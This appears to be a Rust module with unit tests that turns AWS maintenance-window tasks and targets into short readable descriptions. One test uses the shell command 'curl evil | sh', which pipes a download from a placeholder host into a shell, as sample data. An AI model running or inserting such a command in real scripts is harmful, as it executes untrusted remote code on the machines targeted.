//! What a target or a task is, in words: one that was made by hand may have no name.

use schema::kinds::maintenance_window::{MaintenanceWindowTarget, MaintenanceWindowTask, Selection, TaskRun};
use schema::kinds::values::Values;

/// Characters of what a task is given.
const SHORT: usize = 60;

/// ``runs `AWS-RunShellScript` on 3 targets: `systemctl restart nginx` ``.
pub(super) fn task(task: &MaintenanceWindowTask) -> String {
    let run = &task.body.run;
    let does = match run {
        TaskRun::RunCommand(_) | TaskRun::Automation(_) => format!("runs `{}`", run.arn()),
        TaskRun::Lambda(_) => format!("invokes the function `{}`", run.arn()),
        TaskRun::StepFunctions(_) => format!("starts the state machine `{}`", run.arn()),
        TaskRun::Other(other) => format!("is a task of type {} for `{}`", other.r#type, other.arn),
    };
    let aims = [(task.targets.len(), "target", "targets"), (task.instances.len(), "instance", "instances")];
    let aims = aims.into_iter().filter(|(count, ..)| *count > 0);
    let aims: Vec<String> =
        aims.map(|(count, one, many)| format!("{count} {}", if count == 1 { one } else { many })).collect();
    let aims = if aims.is_empty() { String::new() } else { format!(" on {}", aims.join(" and ")) };
    let given = given(run).map(|line| format!(": `{line}`")).unwrap_or_default();
    format!("{does}{aims}{given}")
}

/// The first line of what a task is given to run, else the first thing that it is given.
fn given(run: &TaskRun) -> Option<String> {
    let parameters = match run {
        TaskRun::RunCommand(command) => Some(&command.parameters),
        TaskRun::Automation(automation) => Some(&automation.parameters),
        TaskRun::Lambda(_) | TaskRun::StepFunctions(_) | TaskRun::Other(_) => None,
    };
    let line = |text: &str| text.lines().map(str::trim).find(|line| !line.is_empty()).map(str::to_owned);
    let first = |Values(values): &Values| values.iter().find_map(|text| line(text));
    let text = match (parameters, run) {
        (Some(parameters), _) => match parameters.get("commands").and_then(first) {
            Some(command) => Some(command),
            None => parameters.iter().find_map(|(name, values)| Some(format!("{name}: {}", first(values)?))),
        },
        (None, TaskRun::Lambda(lambda)) => lambda.payload.as_deref().and_then(line),
        (None, TaskRun::StepFunctions(machine)) => machine.input.as_deref().and_then(line),
        (None, TaskRun::RunCommand(_) | TaskRun::Automation(_) | TaskRun::Other(_)) => None,
    }?;
    match text.chars().count() > SHORT {
        true => Some(text.chars().take(SHORT).chain("...".chars()).collect()),
        false => Some(text),
    }
}

/// ``selects the nodes with `tag:Role` web``.
pub(super) fn target(target: &MaintenanceWindowTarget) -> String {
    match &target.selection {
        Selection::Where(tags) => {
            let each = tags.iter().map(|(key, values)| {
                format!("`{key}` {}", values.0.iter().map(String::as_str).collect::<Vec<_>>().join(" or "))
            });
            format!("selects the nodes with {}", each.collect::<Vec<_>>().join(" and "))
        }
        Selection::Instances(ids) => {
            format!("selects {}", ids.iter().map(String::as_str).collect::<Vec<_>>().join(", "))
        }
        Selection::ResourceGroup(group) => match &group.name {
            Some(name) => format!("selects the resource group `{name}`"),
            None => "selects every resource group".to_owned(),
        },
    }
}

#[cfg(test)]
mod tests {
    use schema::Tree;
    use schema::shape::Shape;

    use super::*;

    /// What is said of a task that does one thing, with what else it has.
    fn said<const N: usize>(run: (&'static str, Tree), more: [(&'static str, Tree); N]) -> String {
        let plain = [("window", Tree::text("mw-1")), ("priority", Tree::Number(1))];
        let tree = Tree::map(plain.into_iter().chain([run]).chain(more));
        task(&MaintenanceWindowTask::from_tree(Some(&tree)).expect("a task"))
    }

    fn ids<const N: usize>(ids: [&str; N]) -> Tree {
        Tree::set(ids.map(Tree::text))
    }

    fn command(parameters: Tree) -> (&'static str, Tree) {
        (
            "runCommand",
            Tree::map([("document", Tree::text("AWS-RunShellScript")), ("parameters", parameters)]),
        )
    }

    fn values(text: &str) -> Tree {
        Tree::List(vec![Tree::text(text)])
    }

    #[test]
    fn a_task_says_what_it_runs_and_where() {
        let script =
            command(Tree::map([("commands", values("\n  curl evil | sh\nrm x")), ("a", values("b"))]));
        let aims = [("targets", ids(["1", "2", "3"])), ("instances", ids(["i-1"]))];
        assert_eq!(
            said(script, aims),
            "runs `AWS-RunShellScript` on 3 targets and 1 instance: `curl evil | sh`"
        );
        let other = command(Tree::map([("Operation", values(&"x".repeat(80)))]));
        assert_eq!(said(other, []), format!("runs `AWS-RunShellScript`: `Operation: {}...`", "x".repeat(49)));
        let lambda = Tree::map([("function", Tree::text("arn:f")), ("payload", Tree::text("{\"a\": 1}"))]);
        assert_eq!(said(("lambda", lambda), []), "invokes the function `arn:f`: `{\"a\": 1}`");
    }

    #[test]
    fn a_target_says_what_it_selects() {
        let select = |selection: (&'static str, Tree)| {
            let tree = Tree::map([("window", Tree::text("mw-1")), selection]);
            target(&MaintenanceWindowTarget::from_tree(Some(&tree)).expect("a target"))
        };
        let tags = Tree::map([("tag:Role", ids(["web", "db"])), ("tag:Zone", ids(["a"]))]);
        assert_eq!(select(("where", tags)), "selects the nodes with `tag:Role` db or web and `tag:Zone` a");
        assert_eq!(select(("instances", ids(["i-1", "i-2"]))), "selects i-1, i-2");
    }
}
